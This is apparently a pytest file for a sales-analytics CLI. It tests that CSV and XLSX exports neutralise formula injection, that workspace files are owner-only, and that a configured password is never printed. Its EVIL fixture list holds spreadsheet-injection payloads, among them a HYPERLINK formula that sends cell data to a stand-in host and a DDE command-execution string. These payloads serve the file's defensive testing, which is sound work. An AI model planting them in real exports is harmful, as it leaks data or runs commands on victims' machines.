"""Security that needs no server: formula injection in exports, owner-only files, no secrets shown."""

from __future__ import annotations

import csv
import io
import stat
import subprocess
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from tests.reliability.conftest import PYTHON, child_env

import salesscope
from salesscope.cli.output import csv_safe
from salesscope.ingest import import_files

CLI = [PYTHON, "-c", "from salesscope.cli import main; main()"]
# Team names an attacker could type into a CRM; a spreadsheet would run them as formulas.
EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)",
        "-2+3", "=1+1"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def evil_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small demo company whose teams are named like formulas."""
    from salesscope.demo import generate

    root = tmp_path_factory.mktemp("evil")
    frames = generate(seed=11, scale=3000, today=date(2026, 4, 15))
    teams = sorted(frames["reps"]["team"].dropna().unique())
    rename = dict(zip(teams, EVIL, strict=False))
    frames["reps"]["team"] = frames["reps"]["team"].map(lambda t: rename.get(t, t))
    frames["quotas"]["team"] = frames["quotas"]["team"].map(lambda t: rename.get(t, t))
    files = []
    for name, df in frames.items():
        files.append(root / "files" / f"{name}.parquet")
        files[-1].parent.mkdir(exist_ok=True)
        df.to_parquet(files[-1], index=False)
    with salesscope.init(root / "ws") as ws:
        r = import_files(ws, files, progress=False)
        assert r.rejected == 0, r.warnings
        stored = {t for (t,) in ws.duckdb.execute("SELECT DISTINCT team FROM reps").fetchall()}
        assert set(EVIL[: len(teams)]) <= stored
    return root / "ws"


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    out = subprocess.run(CLI + list(args), capture_output=True, text=True, env=child_env(),
                         timeout=300)
    assert out.returncode == 0, out.stderr
    return out


def test_csv_export_escapes_formulas_and_keeps_numbers(evil_ws):
    out = cli("kpi", "win_rate", "revenue_growth", "avg_deal_size", "--by", "team", "--grain",
              "quarter", "--format", "csv", "-w", str(evil_ws))
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert rows
    teams = {r["team"] for r in rows}
    assert any(t.startswith("'=HYPERLINK") for t in teams), teams
    for r in rows:
        for col, cell in r.items():
            assert not cell.startswith(FORMULA) or _is_number(cell), (col, cell)
    # Numbers stay numbers, negative ones included (a growth can be below zero).
    values = [float(r["value"]) for r in rows if r["value"]]
    assert values and all(isinstance(v, float) for v in values)
    assert any(r["change"].startswith("-") for r in rows if r.get("change")), "no negative number"
    # The escaped text reads back as the team name once the leading quote is dropped.
    with salesscope.open(evil_ws, read_only=True) as ws:
        stored = {t for (t,) in ws.duckdb.execute("SELECT DISTINCT team FROM reps").fetchall()}
    assert {t[1:] if t.startswith("'") else t for t in teams if t} <= stored


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_csv_safe_touches_only_text_cells():
    df = pd.DataFrame({"team": ["=1+1", "-x", "ok", None, "@a"], "value": [-1.5, 2.0, -3.0, 4.0, 5.0],
                       "n": [-1, 2, 3, 4, 5]})
    out = csv_safe(df)
    assert out["team"].tolist()[:3] == ["'=1+1", "'-x", "ok"] and out["team"][4] == "'@a"
    assert pd.isna(out["team"][3])
    assert out["value"].tolist() == [-1.5, 2.0, -3.0, 4.0, 5.0]
    assert out["n"].tolist() == [-1, 2, 3, 4, 5]
    assert df["team"][0] == "=1+1"  # the caller's frame is left alone


@pytest.mark.slow
def test_xlsx_report_holds_no_formula_from_user_data(evil_ws, tmp_path):
    import openpyxl

    target = tmp_path / "report.xlsx"
    cli("report", "--format", "xlsx", "--out", str(target), "-w", str(evil_ws))
    book = openpyxl.load_workbook(target)
    seen_evil = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value in EVIL:
                    seen_evil.add(cell.value)
    assert seen_evil, "the team names should appear, as plain text"


def test_workspace_files_are_for_their_owner_only(tmp_path):
    p = tmp_path / "ws"
    f = tmp_path / "leads.csv"
    f.write_text("lead_id,created_at\nL1,2024-01-01\nL2,not a date\n", encoding="utf-8")
    with salesscope.init(p, backend={"kind": "duckdb", "password": "s3cret-pg"}) as ws:
        import_files(ws, [f], progress=False)
    assert stat.S_IMODE(p.stat().st_mode) == 0o700
    for q in p.rglob("*"):
        mode = stat.S_IMODE(q.stat().st_mode)
        assert mode & 0o077 == 0, f"{q} is {oct(mode)}"
    assert (p / "quarantine").is_dir() and any((p / "quarantine").iterdir())


def test_another_local_user_cannot_read_the_workspace(tmp_path):
    """Checked as user 'nobody', with the kernel's own permission checks."""
    import pwd

    try:
        nobody = pwd.getpwnam("nobody")
    except KeyError:
        pytest.skip("no user 'nobody' on this system")
    tmp_path.chmod(0o755)  # the parent is open: only the workspace's own modes protect it
    p = tmp_path / "ws"
    with salesscope.init(p, backend={"kind": "duckdb", "password": "s3cret-pg"}):
        pass
    for target in (p / "store.duckdb", p / "salesscope.yaml"):
        r = subprocess.run(["setpriv", f"--reuid={nobody.pw_uid}", f"--regid={nobody.pw_gid}",
                            "--clear-groups", "cat", str(target)], capture_output=True, text=True)
        assert r.returncode != 0 and "Permission denied" in r.stderr, (target, r)


def test_the_config_password_is_never_printed(tmp_path):
    """A wrong PostgreSQL backend fails with a clear error that does not show the password."""
    p = tmp_path / "ws"
    secret = "S3cr3t-do-not-show"
    with salesscope.init(p, backend={"kind": "postgres", "host": "127.0.0.1", "port": 1,
                                     "password": secret, "database": "x"}):
        pass
    out = subprocess.run(CLI + ["kpi", "win_rate", "--format", "json", "-w", str(p)],
                         capture_output=True, text=True, env=child_env(), timeout=120)
    assert out.returncode != 0
    assert secret not in out.stdout + out.stderr
    assert "Traceback" not in out.stderr, out.stderr[-2000:]
